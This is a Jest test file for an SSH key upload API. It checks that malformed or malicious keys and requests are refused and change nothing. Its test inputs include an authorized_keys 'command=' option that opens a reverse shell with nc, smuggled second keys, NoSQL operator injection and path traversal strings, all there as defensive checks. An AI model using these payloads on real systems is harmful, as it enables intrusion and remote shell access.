import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { EventSpy, generateSshKey, testAmqpUrl, type GeneratedKey } from '@tmuxme/testing';
import { bearerFor, buildKeysApp, keysOptions } from './keys-app.js';

/** Every key trick of docs/architecture.md §7, and malformed requests: 4xx with a code, nothing stored or published. */
const options = keysOptions();
let app: Awaited<ReturnType<typeof buildKeysApp>>;
let spy: EventSpy;
let auth: { authorization: string };
let ed25519: GeneratedKey;
let others: Record<'rsa1024' | 'dsa' | 'ecdsa', GeneratedKey>;
const certificateLine = (key: string) => key.replace(/^ssh-ed25519/, 'ssh-ed25519-cert-v01@openssh.com');

beforeAll(async () => {
  app = await buildKeysApp(options);
  spy = await EventSpy.start(testAmqpUrl(), options.exchange!);
  auth = await bearerFor({ userId: 'user-mallory', username: 'mallory' });
  [ed25519, others] = [await generateSshKey('ed25519'), {
    rsa1024: await generateSshKey('rsa', 1024), dsa: await generateSshKey('dsa'), ecdsa: await generateSshKey('ecdsa', 256),
  }];
});
afterAll(async () => {
  await app?.close();
  await spy?.stop();
});

const blobOf = (line: string) => line.split(' ')[1]!;

function cases(): [string, unknown, number, string, string?][] {
  const key = ed25519.publicKey.trim();
  const blob = Buffer.from(blobOf(key), 'base64');
  return [
    ['malformed JSON', '{"key": ', 400, 'INVALID_JSON'],
    ['no key field', { title: 'x' }, 400, 'VALIDATION_FAILED'],
    ['key as a number', { key: 42 }, 400, 'VALIDATION_FAILED'],
    ['key as an operator object', { key: { $ne: null } }, 400, 'VALIDATION_FAILED'],
    ['an extra field', { key, userId: 'someone-else' }, 400, 'VALIDATION_FAILED'],
    ['an empty key', { key: '' }, 400, 'INVALID_KEY', 'empty'],
    ['a newline-smuggled second key', { key: `${key}\n${others.ecdsa.publicKey.trim()}` }, 400, 'INVALID_KEY', 'multiple-keys'],
    ['a leading command= option', { key: `command="nc -e /bin/sh evil 1" ${key}` }, 400, 'INVALID_KEY', 'options'],
    ['a leading restrict,permitlisten option', { key: `restrict,permitlisten="*" ${key}` }, 400, 'INVALID_KEY', 'options'],
    ['a private key', { key: ed25519.privateKey }, 400, 'INVALID_KEY', 'private-key'],
    ['a DSA key', { key: others.dsa.publicKey }, 400, 'INVALID_KEY', 'dsa'],
    ['an RSA-1024 key', { key: others.rsa1024.publicKey }, 400, 'INVALID_KEY', 'rsa-too-short'],
    ['a certificate type', { key: certificateLine(key) }, 400, 'INVALID_KEY'],
    ['a blob whose inner type differs', { key: `ssh-rsa ${blobOf(key)}` }, 400, 'INVALID_KEY', 'type-mismatch'],
    ['trailing garbage in the blob', { key: `ssh-ed25519 ${Buffer.concat([blob, Buffer.from('garbage')]).toString('base64')}` }, 400, 'INVALID_KEY', 'trailing-data'],
    ['a truncated blob', { key: `ssh-ed25519 ${blob.subarray(0, 30).toString('base64')}` }, 400, 'INVALID_KEY'],
    ['a NUL byte', { key: `${key}\u0000` }, 400, 'INVALID_KEY'],
    ['a NUL inside the comment', { key: `${key.split(' ').slice(0, 2).join(' ')} a\u0000b` }, 400, 'INVALID_KEY'],
    ['a carriage return', { key: `${key}\r${key}` }, 400, 'INVALID_KEY'],
    ['invalid base64', { key: 'ssh-ed25519 AAAA$$$$' }, 400, 'INVALID_KEY'],
    ['an unknown type', { key: `ssh-foo ${blobOf(key)}` }, 400, 'INVALID_KEY'],
    ['over 8 KB', { key: `ssh-rsa ${'A'.repeat(9000)}` }, 400, 'INVALID_KEY', 'too-long'],
    ['just text', { key: 'hello world' }, 400, 'INVALID_KEY'],
    ['a 101-character comment', { key: `${key.split(' ').slice(0, 2).join(' ')} ${'c'.repeat(101)}` }, 400, 'INVALID_KEY'],
    ['a title with a newline', { key, title: 'evil\ntitle' }, 400, 'INVALID_TITLE'],
    ['a title over 100 characters', { key, title: 't'.repeat(150) }, 400, 'INVALID_TITLE'],
    ['an oversized body', { key, pad: 'x'.repeat(70_000) }, 413, 'BODY_TOO_LARGE'],
  ];
}

describe('bad keys are refused with a code and change nothing', () => {
  it('refuses each case', async () => {
    for (const [name, payload, status, code, reason] of cases()) {
      const response = await app.inject({
        method: 'POST', url: '/api/v1/user/keys', headers: { ...auth, 'content-type': 'application/json' },
        payload: typeof payload === 'string' ? payload : JSON.stringify(payload),
      });
      const body = response.json();
      expect({ name, status: response.statusCode, code: body.code }).toEqual({ name, status, code });
      if (reason) expect({ name, reason: body.reason }).toEqual({ name, reason });
      expect(body.message).toMatch(/^[A-Z"].{8,}[.?]$/s);
    }
  });

  it('refuses requests without a valid token', async () => {
    for (const headers of [{}, { authorization: 'Bearer nope' }, { authorization: `Token tmx_${'a'.repeat(40)}` }]) {
      const response = await app.inject({ method: 'POST', url: '/api/v1/user/keys', headers, payload: { key: ed25519.publicKey } });
      expect(response.statusCode).toBe(401);
      expect(response.json().code).toMatch(/^(UNAUTHENTICATED|INVALID_TOKEN)$/);
    }
  });

  it('refuses odd names and ids on the read and delete paths', async () => {
    for (const url of ['/api/v1/users/Mal%00lory/keys.json', `/api/v1/users/${'a'.repeat(60)}/keys.json`, '/api/v1/users/%24ne/keys.json', '/..%2f..%2fetc.keys']) {
      const response = await app.inject({ url });
      expect([400, 404]).toContain(response.statusCode);
      expect(response.json().code).toEqual(expect.any(String));
    }
    for (const id of ['not-an-id', '000000000000000000000000', '{"$ne":null}']) {
      const response = await app.inject({ method: 'DELETE', url: `/api/v1/user/keys/${encodeURIComponent(id)}`, headers: auth });
      expect(response.json()).toMatchObject({ statusCode: 404, code: 'KEY_NOT_FOUND' });
    }
  });

  it('stored nothing and published nothing', async () => {
    await new Promise((r) => setTimeout(r, 700));
    expect(await app.db.collection('keys').countDocuments()).toBe(0);
    expect(spy.events).toEqual([]);
  });
});
